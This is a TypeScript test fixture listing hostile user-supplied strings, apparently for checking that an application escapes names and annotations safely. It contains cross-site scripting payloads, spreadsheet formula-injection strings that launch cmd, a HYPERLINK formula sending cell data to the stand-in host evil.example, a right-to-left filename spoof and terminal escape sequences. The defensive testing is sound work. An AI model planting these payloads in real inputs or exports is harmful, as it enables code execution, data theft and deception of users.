/** Names and annotations as an attacker inside the account would choose them. */
export const hostileTexts = {
  html: `<img src=x onerror="alert(1)"><script>alert(2)</script>`,
  formula: `=HYPERLINK("https://evil.example/?"&A1,"open")`,
  fullWidthFormula: "\uFF1Dcmd|' /C calc'!A0",
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: "\t=1+1",
  carriageReturn: "\r=1+1",
  newLine: "\n=1+1",
  space: "  =1+1",
  markdown:
    "[click](javascript:alert(1)) `code` | cell | **bold** ![x](https://evil.example/p.png)",
  mention: "@everyone see #12 at https://evil.example or www.evil.example",
  rightToLeft: "invoice\u202Efdp.exe",
  zeroWidth: "pay\u200Bpal",
  escapeSequence: "\u001B[2J\u001B]0;owned\u0007",
  nul: "a\u0000b",
  long: "A".repeat(10_000),
} as const;
